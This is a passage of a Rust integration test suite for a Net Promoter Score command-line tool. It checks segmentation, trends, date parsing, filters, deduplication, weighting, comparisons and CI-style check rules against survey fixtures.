    // fixtures/README.md: enterprise 11 (3/3/5), free 13 (2/2/9), pro 13 (4/3/6).
    assert_eq!(
        rows,
        vec![
            ("enterprise".into(), 11),
            ("free".into(), 13),
            ("pro".into(), 13)
        ]
    );
    let free = &j["segments"][1];
    close(&free["nps"], 700.0 / 13.0, 1e-9);
    // By hand: the rest (enterprise + pro) is D 7, P 6, R 11, n 24, NPS 16.667.
    close(&free["vs_rest"]["delta"], 700.0 / 13.0 - 400.0 / 24.0, 1e-9);
    close(&free["impact"], 1100.0 / 37.0 - 400.0 / 24.0, 1e-9);
    assert_eq!(free["small_sample"], true);
    for s in j["segments"].as_array().unwrap() {
        let (p, holm) = (
            s["vs_rest"]["p_value"].as_f64().unwrap(),
            s["p_holm"].as_f64().unwrap(),
        );
        assert!(holm >= p && holm <= 1.0, "{s}");
    }
    assert_segments_add_up(&j);
}

#[test]
fn segment_sorting_top_and_combinations() {
    let file = fixture("example.csv");
    let by_nps = segment_json(&file, &["--by", "plan", "--sort", "nps"]);
    let order: Vec<&str> = by_nps["segments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["values"]["plan"].as_str().unwrap())
        .collect();
    assert_eq!(order, ["free", "enterprise", "pro"]); // 53.85, 18.18, 15.38
    let top = segment_json(&file, &["--by", "plan", "--top", "2"]);
    assert_eq!(top["segments"].as_array().unwrap().len(), 2);
    assert_eq!(top["segments_total"], 3);

    let combos = segment_json(&file, &["--by", "plan,channel"]);
    assert_eq!(combos["by"], serde_json::json!(["plan", "channel"]));
    assert_segments_add_up(&combos);
    let csv = nps(&["segment", &file, "--by", "plan", "--format", "csv"]);
    let lines: Vec<&str> = csv.expect(0).stdout.lines().collect();
    assert!(
        lines[0].starts_with("row,plan,n,nps,ci_low,ci_high"),
        "{csv:?}"
    );
    assert!(lines[1].starts_with("overall,,37,29.7,"), "{csv:?}");
    assert_eq!(lines.len(), 5, "{csv:?}");

    let missing = nps(&["segment", &file, "--by", "region"]);
    missing.expect(3);
    assert!(
        missing
            .stderr
            .contains("column \"region\": no such column (named by --by)"),
        "{missing:?}"
    );
    nps(&["segment", &file]).expect(2);
}

// ---------------------------------------------------------------- nps trend and dates

fn trend_json(file: &str, extra: &[&str]) -> Value {
    let mut args = vec!["trend", file, "--format", "json"];
    args.extend_from_slice(extra);
    let run = nps(&args);
    run.expect(0);
    run.json()
}

fn periods(series: &Value) -> Vec<(String, u64)> {
    series["periods"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["period"].as_str().unwrap().to_string(),
                p["n"].as_u64().unwrap(),
            )
        })
        .collect()
}

#[test]
fn carpentries_quarters_hold_every_dated_response() {
    // Issue 4: US m/d/yy H:MM dates; each dated response in its quarter, n sums to the dated.
    // Per-quarter counts checked independently (Python strptime '%m/%d/%y %H:%M').
    let j = trend_json(
        &shared("carpentries-assessment/20180908_post_clean.csv"),
        &["--every", "quarter"],
    );
    let s = &j["series"][0];
    assert_eq!(
        periods(s),
        [
            ("2016-Q2", 12),
            ("2016-Q3", 38),
            ("2016-Q4", 82),
            ("2017-Q1", 19),
            ("2017-Q2", 99),
            ("2017-Q3", 79),
            ("2017-Q4", 106),
            ("2018-Q1", 186),
            ("2018-Q2", 166),
            ("2018-Q3", 102),
        ]
        .map(|(p, n)| (p.to_string(), n))
    );
    assert_eq!(s["all_time"]["n"], 889);
    assert_eq!(s["undated"], 0);
    assert_eq!(j["sources"][0]["dates"]["order"], "mdy");
    assert_eq!(j["sources"][0]["dates"]["column"], "Date");
}

#[test]
fn day_first_and_month_first_dates_parse_without_flags() {
    for file in ["dates/dmy.csv", "dates/mdy.csv"] {
        let j = trend_json(&fixture(file), &["--every", "month"]);
        let s = &j["series"][0];
        // fixtures/README.md: Jan 3 (NPS 33.33), Feb empty, Mar 2 (NPS 50); 2 undated.
        assert_eq!(
            periods(s),
            [
                ("2025-01".to_string(), 3),
                ("2025-02".to_string(), 0),
                ("2025-03".to_string(), 2)
            ],
            "{file}"
        );
        close(&s["periods"][0]["stats"]["nps"], 100.0 / 3.0, 1e-9);
        assert!(
            s["periods"][1]["stats"].is_null(),
            "an empty period has no statistics"
        );
        close(&s["periods"][2]["stats"]["nps"], 50.0, 1e-9);
        assert_eq!(s["undated"], 2, "{file}");
        close(&s["all_time"]["nps"], 40.0, 1e-9);
        let dates = &j["sources"][0]["dates"];
        assert_eq!(
            (dates["blank"].clone(), dates["invalid"].clone()),
            (1.into(), 1.into()),
            "{file}"
        );
        assert_eq!(dates["invalid_examples"][0]["value"], "soon");
        assert_eq!(dates["invalid_examples"][0]["location"]["number"], 8);
    }
    let table = nps(&["trend", &fixture("dates/dmy.csv"), "--every", "month"]);
    assert!(
        table.expect(0).stdout.contains("undated: 2 responses"),
        "{table:?}"
    );
}

#[test]
fn dates_that_read_both_ways_need_a_date_format() {
    let file = fixture("dates/ambiguous.csv");
    let run = nps(&["trend", &file, "--every", "month"]);
    run.expect(3);
    assert!(
        run.stderr
            .contains("ambiguous.csv, line 2, column \"date\""),
        "{run:?}"
    );
    assert!(run.stderr.contains("--date-format"), "{run:?}");
    let j = trend_json(&file, &["--every", "month", "--date-format", "dmy"]);
    let p = periods(&j["series"][0]);
    assert_eq!(p.first().unwrap(), &("2025-02".to_string(), 1));
    assert_eq!(p.last().unwrap(), &("2025-06".to_string(), 1));
    assert_eq!(p.len(), 5, "empty months between are shown: {p:?}");
}

#[test]
fn rolling_windows_and_series_per_segment() {
    // example.csv: Jan D/P/R 3/4/6, Feb 3/2/7 → two-month window at Feb: 6/6/13, n 25, NPS 28.
    let j = trend_json(
        &fixture("example.csv"),
        &["--every", "month", "--rolling", "2"],
    );
    let feb = &j["series"][0]["periods"][1];
    assert_eq!(feb["rolling"]["n"], 25);
    close(&feb["rolling"]["nps"], 28.0, 1e-9);
    close(
        &feb["vs_previous"]["delta"],
        100.0 * 4.0 / 12.0 - 100.0 * 3.0 / 13.0,
        1e-9,
    );

    // dmy.csv with a 60-day window: Jan 31 and Feb 28 windows hold January's 3 responses;
    // Mar 31's window starts Jan 31 and holds March's 2.
    let j = trend_json(
        &fixture("dates/dmy.csv"),
        &["--every", "month", "--rolling", "60d"],
    );
    let rolling: Vec<u64> = j["series"][0]["periods"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["rolling"]["n"].as_u64().unwrap())
        .collect();
    assert_eq!(rolling, [3, 3, 2]);

    let j = trend_json(
        &fixture("example.csv"),
        &["--every", "month", "--by", "plan"],
    );
    let series = j["series"].as_array().unwrap();
    let sizes: Vec<(String, u64)> = series
        .iter()
        .map(|s| {
            let n: u64 = periods(s).iter().map(|(_, n)| n).sum();
            (s["values"]["plan"].as_str().unwrap().to_string(), n)
        })
        .collect();
    assert_eq!(
        sizes,
        [
            ("enterprise".to_string(), 11),
            ("free".to_string(), 13),
            ("pro".to_string(), 13)
        ]
    );
    for s in series {
        assert_eq!(s["sparkline"].as_str().unwrap().chars().count(), 3);
    }
}

// ---------------------------------------------------------------- filters shared by every command

fn filtered(j: &Value) -> Vec<(String, u64)> {
    j["rows"]["filtered"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["reason"].as_str().unwrap().to_string(),
                e["rows"].as_u64().unwrap(),
            )
        })
        .collect()
}

#[test]
fn where_filters_and_their_accounting() {
    let file = fixture("example.csv");
    // fixtures/README.md: enterprise has 13 rows, n 11 (3/3/5, NPS 18.18), so 2 blanks; the
    // other 27 rows (free 13 + pro 14) are filtered.
    let j = score_json(&file, &["--where", "plan=enterprise"]);
    assert_eq!(j["n"], 11);
    close(&j["nps"], 200.0 / 11.0, 1e-9);
    assert_eq!(j["rows"]["blank"], 2);
    assert_eq!(filtered(&j), [("--where plan=enterprise".to_string(), 27)]);
    // read = used + blank + invalid + excluded + filtered + deduplicated.
    assert_eq!(j["rows"]["read"], 40);

    // plan != free keeps enterprise and pro: D 3+4, P 3+3, R 5+6 → n 24, NPS 100·4/24.
    let j = score_json(&file, &["--where", "plan!=free"]);
    assert_eq!(j["n"], 24);
    close(&j["nps"], 400.0 / 24.0, 1e-9);

    // Two conditions must both hold, and segment honours them like every command.
    let j = segment_json(
        &file,
        &[
            "--by",
            "channel",
            "--where",
            "plan=enterprise",
            "--where",
            "channel!=sms",
        ],
    );
    let n: u64 = j["segments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["n"].as_u64().unwrap())
        .sum();
    assert_eq!(n, j["overall"]["n"].as_u64().unwrap());
    assert!(j["segments"]
        .as_array()
        .unwrap()
        .iter()
        .all(|s| s["values"]["channel"] != "sms"));

    let missing = nps(&["score", &file, "--where", "region=EU"]);
    missing.expect(3);
    assert!(
        missing
            .stderr
            .contains("column \"region\": no such column (named by --where region=EU)"),
        "{missing:?}"
    );
    nps(&["score", &file, "--where", "plan"]).expect(2);
}

#[test]
fn since_and_until_are_inclusive_days() {
    // example.csv months: Jan 14 rows (13 used + 1 blank), Feb 13 (12 + 1), Mar 13 (12 + 1).
    // February alone: D/P/R 3/2/7 → NPS 33.33.
    let file = fixture("example.csv");
    let j = score_json(&file, &["--since", "2025-02-01", "--until", "2025-02-28"]);
    assert_eq!(j["n"], 12);
    close(&j["nps"], 400.0 / 12.0, 1e-9);
    assert_eq!(j["rows"]["blank"], 1);
    assert_eq!(
        filtered(&j),
        [
            ("after --until".to_string(), 13),
            ("before --since".to_string(), 14)
        ]
    );
    let bad = nps(&[
        "score",
        &file,
        "--since",
        "2025-03-01",
        "--until",
        "2025-02-01",
    ]);
    bad.expect(2);
    assert!(
        bad.stderr
            .contains("--since 2025-03-01 is after --until 2025-02-01"),
        "{bad:?}"
    );
    nps(&["score", &file, "--since", "March"]).expect(2);
}

#[test]
fn dedupe_keeps_one_answer_per_respondent() {
    // fixtures/dedupe.csv: C1 answered 3 (Jan 10) then 9 (Mar 5); C2 10 (Jan 15) then 7 (Feb 1,
    // listed first); C3 6; one row without an id, 10 (kept).
    // latest → 9, 7, 6, 10: D/P/R 1/1/2, NPS 25. first → 3, 10, 6, 10: 2/0/2, NPS 0.
    let file = fixture("dedupe.csv");
    let latest = score_json(&file, &["--dedupe", "latest"]);
    assert_eq!(latest["n"], 4);
    close(&latest["nps"], 25.0, 1e-9);
    assert_eq!(latest["rows"]["deduplicated"], 2);
    let first = score_json(&file, &["--dedupe", "first"]);
    close(&first["nps"], 0.0, 1e-9);
    assert_eq!(first["distribution"][3], 1);
    // Across inputs: the same answers in two files still leave one answer per id (plus the
    // id-less rows). (The same file named twice is a usage error.)
    let (_dir, copy) = crafted("dedupe.csv", &std::fs::read(&file).unwrap());
    let twice = nps(&[
        "score", &file, &copy, "--dedupe", "latest", "--format", "json",
    ])
    .expect(0)
    .json();
    assert_eq!(twice["n"], 5);
    assert_eq!(twice["rows"]["deduplicated"], 7);
}

// ---------------------------------------------------------------- nps compare

fn compare_json(args: &[&str]) -> Value {
    let mut all = vec!["compare"];
    all.extend_from_slice(args);
    all.extend(["--format", "json"]);
    let run = nps(&all);
    run.expect(0);
    run.json()
}

#[test]
fn compare_two_inputs_a_date_split_and_two_values() {
    // formats/responses.csv NPS 20 (n 20) vs presets/qualtrics_nps.csv NPS 25 (n 12): B − A = 5.
    let j = compare_json(&[
        &fixture("formats/responses.csv"),
        &fixture("presets/qualtrics_nps.csv"),
    ]);
    assert_eq!(
        (j["a"]["n"].clone(), j["b"]["n"].clone()),
        (20.into(), 12.into())
    );
    close(&j["difference"]["delta"], 5.0, 1e-9);
    assert!(
        j["verdict"]
            .as_str()
            .unwrap()
            .starts_with("+5.0 points, not significant at 95%"),
        "{j}"
    );

    // example.csv split at Feb 1: Jan 3/4/6 (NPS 300/13) vs Feb–Mar 6/4/14 (NPS 800/24).
    let j = compare_json(&[&fixture("example.csv"), "--split-date", "2025-02-01"]);
    assert_eq!(j["a"]["label"], "before 2025-02-01");
    assert_eq!(
        (j["a"]["n"].clone(), j["b"]["n"].clone()),
        (13.into(), 24.into())
    );
    close(&j["difference"]["delta"], 800.0 / 24.0 - 300.0 / 13.0, 1e-9);

    // free (2/2/9) vs pro (4/3/6): B − A = 600/13 − 700/13; enterprise's 11 are in neither.
    let j = compare_json(&[
        &fixture("example.csv"),
        "--by",
        "plan",
        "--groups",
        "free,pro",
    ]);
    close(&j["difference"]["delta"], -100.0 * 5.0 / 13.0, 1e-9);
    assert_eq!(j["in_neither"], 11);
    assert_eq!(j["b"]["label"], "plan = pro");
}

#[test]
fn compare_paired_matches_respondents() {
    // fixtures/paired: C1–C5 answered twice (3→9, 9→9, 7→10, 10→6, 8→8), C6 only before, C7
    // only after. Unpaired: A 2/2/2 (NPS 0), B 1/1/4 (NPS 50). Paired (hand-worked in
    // metrics::compare): Δ 20, t 0.30151 on 4 df, p 0.778.
    let j = compare_json(&[
        &fixture("paired/before.csv"),
        &fixture("paired/after.csv"),
        "--paired",
    ]);
    close(&j["difference"]["delta"], 50.0, 1e-9);
    let p = &j["paired"];
    assert_eq!(
        (
            p["pairs"].clone(),
            p["only_in_a"].clone(),
            p["only_in_b"].clone()
        ),
        (5.into(), 1.into(), 1.into())
    );
    close(&p["difference"]["delta"], 20.0, 1e-9);
    close(&p["difference"]["z"], 0.30151, 1e-5);
    close(&p["difference"]["df"], 4.0, 0.0);
    close(&p["difference"]["p_value"], 0.778, 0.001);
    assert_eq!(
        j["verdict"],
        "+20.0 points, not significant at 95% (p = 0.778, paired)"
    );
}

#[test]
fn compare_usage_errors() {
    let file = fixture("example.csv");
    nps(&["compare", &file]).expect(2);
    nps(&["compare", &file, &file, "--split-date", "2025-02-01"]).expect(2);
    nps(&["compare", &file, "--by", "plan", "--groups", "free"]).expect(2);
    nps(&["compare", &file, "--by", "plan"]).expect(2);
    let none = nps(&["compare", &file, "--by", "plan", "--groups", "free,gold"]);
    none.expect(3);
    assert!(
        none.stderr.contains("plan = gold has no valid responses"),
        "{none:?}"
    );
}

#[test]
fn weights_give_weighted_shares_and_kish_standard_errors() {
    // fixtures/weighted.csv: scores 10, 9, 3, 8 with weights 1, 1, 4, 2 (rows 5 and 6 have a
    // blank and a negative weight: set aside and counted). Unweighted the four give NPS +25;
    // weighted, Σw = 8: promoters 2/8, detractors 4/8 → NPS −25. Σw² = 22 → effective n =
    // 64/22; V = 0.75 − 0.0625 = 0.6875; SE = √(0.6875·22/64) = 0.486136 → 48.61 points.
    let file = fixture("weighted.csv");
    let j = score_json(&file, &["--weight", "arr"]);
    assert_eq!(j["n"], 4);
    close(&j["nps"], -25.0, 1e-9);
    // Relative weights (divided by the largest, 4): (1 + 1 + 4 + 2) / 4 = 2.
    close(&j["weight"]["total"], 2.0, 1e-12);
    close(&j["weight"]["effective_n"], 64.0 / 22.0, 1e-12);
    close(&j["standard_error"], 48.6136, 0.0001);
    close(&j["detractors"]["share"], 0.5, 1e-12);
    // Counts stay counts of responses; only shares are weighted.
    assert_eq!(j["detractors"]["count"], 1);
    assert_eq!(j["promoters"]["count"], 2);
    assert_eq!(
        filtered(&j),
        [(
            "no usable --weight value (blank, negative or not a number)".to_string(),
            2
        )]
    );
    let table = nps(&["score", &file, "--weight", "arr"]);
    assert!(
        table
            .expect(0)
            .stdout
            .contains("n = 4, weighted, effective n = 2.9)"),
        "{table:?}"
    );
    let unweighted = score_json(&file, &[]);
    close(&unweighted["nps"], 100.0 * 3.0 / 6.0 - 100.0 / 6.0, 1e-9); // all six rows: R3 D1
    nps(&["score", &file, "--weight", "revenue"]).expect(3);
}

// ---------------------------------------------------------------- nps check

/// Runs `nps check` with JSON output; returns the exit status and the parsed report.
fn check_json(args: &[&str]) -> (i32, Value, Run) {
    let mut all = vec!["check"];
    all.extend_from_slice(args);
    all.extend(["--format", "json"]);
    let run = nps(&all);
    let j = run.json();
    (run.status, j, run)
}

fn verdicts(j: &Value) -> Vec<(String, bool)> {
    j["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["rule"].as_str().unwrap().to_string(),
                r["passed"].as_bool().unwrap(),
            )
        })
        .collect()
}

#[test]
fn every_rule_type_passes_and_fails_with_the_right_exit_code() {
    // formats/responses.csv: n 20, D/P/R 5/6/9 → NPS 20, detractors 25%, promoters 45%.
    let f = fixture("formats/responses.csv");
    let cases: [(&[&str], &str, bool); 10] = [
        (&["--min", "20"], "nps >= 20.0", true),
        (&["--min", "20.5"], "nps >= 20.5", false),
        (&["--min", "-50"], "nps >= -50.0", true),
        (&["--max-detractors", "25%"], "detractors <= 25.0%", true),
        (&["--max-detractors", "0.2"], "detractors <= 20.0%", false),
        (&["--min-promoters", "45"], "promoters >= 45.0%", true),
        (&["--min-promoters", "50%"], "promoters >= 50.0%", false),
        (&["--min-responses", "20"], "responses >= 20", true),
        (&["--min-responses", "21"], "responses >= 21", false),
        (&["--min", "30", "--unless-uncertain"], "nps >= 30.0", true),
    ];
    for (flags, rule, pass) in cases {
        let mut args = vec![f.as_str()];
        args.extend_from_slice(flags);
        let (status, j, run) = check_json(&args);
        assert_eq!(status, if pass { 0 } else { 1 }, "{run:?}");
        assert_eq!(verdicts(&j), [(rule.to_string(), pass)], "{run:?}");
        assert_eq!(j["passed"], pass);
        let verdict = if pass {
            "nps: check passed"
        } else {
            "nps: check failed: 1 of 1 rules failed"
        };
        assert!(run.stderr.contains(verdict), "{run:?}");
    }
}

#[test]
fn unless_uncertain_passes_a_small_sample_the_plain_rule_fails() {
    // NPS 20 with a 95% adjusted-Wald interval of −15.4 to 50.2 (n 20): below 30, but the upper
    // bound is above 30, so --unless-uncertain passes it. A minimum of 55 lies above the upper
    // bound too, and fails even with --unless-uncertain.
    let f = fixture("formats/responses.csv");
    let (status, j, _) = check_json(&[&f, "--min", "30"]);
    assert_eq!((status, j["passed"].clone()), (1, false.into()));
    let (status, j, _) = check_json(&[&f, "--min", "30", "--unless-uncertain"]);
    assert_eq!((status, j["passed"].clone()), (0, true.into()));
    close(&j["rules"][0]["ci_high"], 50.2, 0.05);
    let (status, _, run) = check_json(&[&f, "--min", "55", "--unless-uncertain"]);
    assert_eq!(status, 1, "{run:?}");
}

#[test]
fn baselines_round_trip_and_significant_drops() {
    let f = fixture("formats/responses.csv");
    let dir = tempfile::tempdir().unwrap();
    let b = dir.path().join("b.json");
    let saved = nps(&["score", &f, "--format", "json", "-o", b.to_str().unwrap()]);
    saved.expect(0);
    let (status, j, run) = check_json(&[&f, "--baseline", b.to_str().unwrap(), "--max-drop", "0"]);
    assert_eq!(status, 0, "{run:?}");
    close(&j["rules"][0]["actual"], 0.0, 1e-12);

    // qualtrics fixture (NPS 25, n 12) as a data baseline: a drop of 5 to NPS 20, not significant.
    let q = fixture("presets/qualtrics_nps.csv");
    let (status, j, _) = check_json(&[&f, "--baseline", &q, "--max-drop", "2"]);
    assert_eq!(status, 1);
    close(&j["rules"][0]["actual"], 5.0, 1e-9);
    let (status, _, _) = check_json(&[&f, "--baseline", &q, "--max-drop", "2", "--significant"]);
    assert_eq!(
        status, 0,
        "a 5-point drop on 20 and 12 responses is not significant"
    );

    // 20180908_post_clean (48.37, n 889) → longterm (36.32, n 402): a 12.05-point drop with
    // p = 0.0054 (adjusted-Wald SEs, by hand): it fails even with --significant.
    let post = shared("carpentries-assessment/20180908_post_clean.csv");
    let long = shared("carpentries-assessment/longterm_October2017.csv");
    let (status, j, run) = check_json(&[
        &long,
        "--baseline",
        &post,
        "--max-drop",
        "5",
        "--significant",
    ]);
    assert_eq!(status, 1, "{run:?}");
    close(&j["rules"][0]["actual"], 12.0505, 0.0001);
    assert!(
        j["rules"][0]["message"]
            .as_str()
            .unwrap()
            .contains("p = 0.005"),
        "{j}"
    );
    let (status, _, _) = check_json(&[&long, "--baseline", &post, "--max-drop", "15"]);
    assert_eq!(status, 0);
}

#[test]
fn segments_and_the_latest_period() {
    // example.csv: free 13 (NPS 53.85), pro 13 (15.38), enterprise 11 (18.18); overall 29.73.
    let f = fixture("example.csv");
    let (status, j, _) = check_json(&[&f, "--by", "plan", "--min", "10", "--min-n", "12"]);
    assert_eq!(status, 0);
    let scopes: Vec<&str> = j["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["scope"].as_str().unwrap())
        .collect();
    assert_eq!(scopes, ["overall", "plan = free", "plan = pro"]);
    assert_eq!(j["skipped"], serde_json::json!([["plan = enterprise", 11]]));
    let (status, j, _) = check_json(&[&f, "--by", "plan", "--min", "20", "--min-n", "12"]);
    assert_eq!(status, 1);
    let failed: Vec<&str> = j["rules"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["passed"] == false)
        .map(|r| r["scope"].as_str().unwrap())
        .collect();
    assert_eq!(failed, ["plan = pro"]);

    // The latest month is 2025-03: D/P/R 3/2/7, NPS 33.33.
    let (status, j, _) = check_json(&[&f, "--every", "month", "--min", "30"]);
    assert_eq!(status, 0);
    assert_eq!(j["rules"][0]["scope"], "latest month 2025-03");
    close(&j["rules"][0]["actual"], 100.0 / 3.0, 1e-9);
    assert_eq!(check_json(&[&f, "--every", "month", "--min", "40"]).0, 1);
}

#[test]
fn rules_files_environment_and_bad_rules() {
    let f = fixture("formats/responses.csv");
    // fixtures/check/rules.toml: min 10, max-detractors 30%, min-responses 20 → all pass.
    let (status, j, _) = check_json(&[&f, "--rules", &fixture("check/rules.toml")]);
    assert_eq!(status, 0);
    assert_eq!(j["rules"].as_array().unwrap().len(), 3);
    // A flag wins over the file.
    let (status, _, _) = check_json(&[&f, "--rules", &fixture("check/rules.toml"), "--min", "25"]);
    assert_eq!(status, 1);

    let unknown = nps(&["check", &f, "--rules", &fixture("check/unknown_key.toml")]);
    unknown.expect(2);
    assert!(
        unknown.stderr.contains("unknown field `mni`"),
        "{unknown:?}"
    );

    let env = nps_full(&["check", &f], None, &[("NPS_MIN", "30")]);
    env.expect(1);
    assert!(env.stderr.contains("is below 30.0"), "{env:?}");
    nps_full(&["check", &f], None, &[("NPS_MAX_DETRACTORS", "25%")]).expect(0);

    nps(&["check", &f]).expect(2); // no rule at all
    nps(&["check", &f, "--max-drop", "5"]).expect(2); // no baseline
    nps(&["check", &f, "--min", "101"]).expect(2);
    nps(&["check", &f, "--max-detractors", "120%"]).expect(2);
    nps(&["check", &fixture("bad/missing.csv"), "--min", "0"]).expect(3);
    nps(&["score", &f, "--format", "junit"]).expect(2);
}

#[test]
fn junit_and_github_formats() {
    use quick_xml::events::Event;
    let f = fixture("formats/responses.csv");
    let run = nps(&[
        "check",
        &f,
        "--min",
        "10",
        "--max-detractors",
        "20%",
        "--min-responses",
        "21",
        "--format",
        "junit",
    ]);
    run.expect(1);
    let mut reader = quick_xml::Reader::from_str(&run.stdout);
    let (mut cases, mut failures, mut names) = (0, 0, Vec::new());
    loop {
        match reader.read_event().expect("well-formed XML") {
            Event::Start(e) | Event::Empty(e) => match e.name().as_ref() {
                b"testcase" => {
                    cases += 1;
                    let name = e.try_get_attribute("name").unwrap().unwrap();
                    names.push(name.unescape_value().unwrap().to_string());
                }
                b"failure" => failures += 1,
                _ => {}
            },
            Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!((cases, failures), (3, 2), "{run:?}");
    assert_eq!(
        names,
        ["nps >= 10.0", "detractors <= 20.0%", "responses >= 21"]
    );

    let gh = nps(&[
        "check",
        &f,
        "--min",
        "30",
        "--min-responses",
        "10",
        "--format",
        "github",
    ]);
    gh.expect(1);
    let lines: Vec<&str> = gh.stdout.lines().collect();
    assert_eq!(lines.len(), 2, "{gh:?}");
    assert!(
        lines[0].starts_with("::error title=nps check%3A overall nps >= 30.0::NPS 20.0"),
        "{gh:?}"
    );
    assert!(
        lines[1].starts_with("::notice title=nps check%3A overall responses >= 10::"),
        "{gh:?}"
    );
}

#[test]
fn a_stray_far_future_date_is_refused_not_listed() {
    // 99999999999 read as epoch seconds is 5138-11-16: over a million daily periods.
    let csv = b"id,date,score\n1,2025-01-01,9\n2,99999999999,7\n";
    let run = nps_with_stdin(&["trend", "-", "--every", "day"], Some(csv));
    run.expect(3);
    assert!(
        run.stderr
            .contains("the dates run from 2025-01-01 to 5138-11-16"),
        "{run:?}"
    );
    assert!(run.stdout.is_empty(), "{run:?}");
}

#[test]
fn zero_and_extreme_weights_are_handled_in_the_open() {
    // All weights zero: nothing to weigh.
    let run = nps_with_stdin(
        &["score", "-", "--weight", "w"],
        Some(b"score,w\n9,0\n3,0\n"),
    );
    run.expect(3);
    assert!(
        run.stderr
            .contains("every --weight value in column \"w\" is zero"),
        "{run:?}"
    );
    // A segment whose weights are all zero is listed, not silently dropped.
    let csv = b"plan,score,w\nfree,9,0\nfree,3,0\npro,9,1\npro,8,2\npro,3,1\n";
    let j = nps_with_stdin(
        &[
            "segment", "-", "--by", "plan", "--weight", "w", "--format", "json",
        ],
        Some(csv),
    )
    .expect(0)
    .json();
    assert_eq!(j["zero_weight"], serde_json::json!([["free", 2]]));
    assert_eq!(j["segments"].as_array().unwrap().len(), 1);
    // Weights of 1e200 and 1e-200 neither overflow nor vanish: relative weights are what count.
    // 9 (w 1e200) dominates 3 (w 1): NPS 100 on an effective n of 1.
    let j = nps_with_stdin(
        &["score", "-", "--weight", "w", "--format", "json"],
        Some(b"score,w\n9,1e200\n3,1\n"),
    )
    .expect(0)
    .json();
    close(&j["nps"], 100.0, 1e-9);
    close(&j["weight"]["effective_n"], 1.0, 1e-9);
    let j = nps_with_stdin(
        &["score", "-", "--weight", "w", "--format", "json"],
        Some(b"score,w\n9,1e-200\n3,1e-200\n"),
    )
    .expect(0)
    .json();
    close(&j["nps"], 0.0, 1e-9);
    close(&j["weight"]["effective_n"], 2.0, 1e-9);
}

#[test]
fn check_never_writes_over_its_baseline_or_rules() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().join("base.json");
    let f = fixture("formats/responses.csv");
    nps(&[
        "score",
        &f,
        "--format",
        "json",
        "-o",
        base.to_str().unwrap(),
    ])
    .expect(0);
    let before = std::fs::read(&base).unwrap();
    let b = base.to_str().unwrap();
    let run = nps(&[
        "check",
        &f,
        "--baseline",
        b,
        "--max-drop",
        "5",
        "--format",
        "json",
        "-o",
        b,
    ]);
    run.expect(2);
    assert!(run.stderr.contains("is also an input"), "{run:?}");
    assert_eq!(std::fs::read(&base).unwrap(), before);
}

#[test]
fn paired_repeats_are_explained_without_a_broken_fix() {
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.csv");
    let b = dir.path().join("b.csv");
    std::fs::write(&a, "customer_id,score\nC1,9\nC1,3\nC2,7\n").unwrap();
    std::fs::write(&b, "customer_id,score\nC1,10\nC2,8\n").unwrap();
    let run = nps(&[
        "compare",
        a.to_str().unwrap(),
        b.to_str().unwrap(),
        "--paired",
    ]);
    run.expect(3);
    assert!(
        run.stderr
            .contains("respondent \"C1\" answered more than once"),
        "{run:?}"
    );
    assert!(!run.stderr.contains("add --dedupe"), "{run:?}");
}

#[test]
fn parquet_timestamps_and_lists_do_not_reject_the_file() {
    // fixtures/formats/typed.parquet (pyarrow): scores 9, 10, 3, 8; submitted_at is
    // timestamp[us, tz=UTC] (2025-01-15 10:00, 2025-01-31 23:30, 2025-02-02 08:00,
    // 2025-02-20 12:00); tags is list<string>.
    let file = fixture("formats/typed.parquet");
    let run = nps(&["trend", &file, "--every", "month", "--format", "json"]);
    let j = run.expect(0).json();
    assert_eq!(
        periods(&j["series"][0]),
        [("2025-01".to_string(), 2), ("2025-02".to_string(), 2)]
    );
    assert!(
        run.stderr
            .contains("column \"tags\" holds list[str] values"),
        "{run:?}"
    );
    // In Paris, 2025-01-31 23:30 UTC is already February.
    let j = trend_json(&file, &["--every", "month", "--tz", "Europe/Paris"]);
    assert_eq!(
        periods(&j["series"][0]),
        [("2025-01".to_string(), 1), ("2025-02".to_string(), 3)]
    );
}

#[test]
fn several_by_columns_in_check_and_one_in_compare() {
    let f = fixture("example.csv");
    let (status, j, _) = check_json(&[&f, "--by", "plan,channel", "--min", "-100", "--min-n", "1"]);
    assert_eq!(status, 0);
    // overall + one scope per (plan, channel) pair present: the checked scopes' n add up to 37.
    let n: u64 = j["rules"].as_array().unwrap()[1..]
        .iter()
        .map(|r| r["n"].as_u64().unwrap())
        .sum();
    assert_eq!(n, 37);
    assert!(
        j["rules"][1]["scope"]
            .as_str()
            .unwrap()
            .contains(", channel = "),
        "{j}"
    );
    let run = nps(&[
        "compare",
        &f,
        "--by",
        "plan,channel",
        "--groups",
        "free,pro",
    ]);
    run.expect(2);
    assert!(
        run.stderr.contains("compare --by takes one column"),
        "{run:?}"
    );
    nps(&["score", &f, "--confidence", "1.5"]).expect(2);
}

/// Run `nps args…` with stderr on a pseudo-terminal (util-linux `script`), returning what the
/// terminal showed (stdout and stderr interleaved, escape sequences included).
fn nps_on_a_terminal(args: &[&str]) -> String {
    nps_on_a_terminal_with(args, &[])
}

/// [`nps_on_a_terminal`] with these environment variables set.
fn nps_on_a_terminal_with(args: &[&str], env: &[(&str, &str)]) -> String {
    let command = std::iter::once(env!("CARGO_BIN_EXE_nps"))
        .chain(args.iter().copied())
        .map(|a| format!("'{a}'"))
        .collect::<Vec<_>>()
        .join(" ");
    let out = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .current_dir(root())
        .stdin(Stdio::null())
        .env_remove("NO_COLOR")
        .env_remove("CLICOLOR")
        .env_remove("CLICOLOR_FORCE")
        .envs(env.iter().copied())
        .output()
        .expect("util-linux `script` runs (Debian's bsdutils)");
    assert!(out.status.success(), "{command}: {out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn a_spinner_names_large_inputs_on_a_terminal_only() {
    // 40 MiB of responses: above the 32 MiB threshold at which reading is worth a spinner.
    let dir = tempfile::tempdir().unwrap();
    let large = dir.path().join("large.csv");
    let row = format!(
        "9,{}\n",
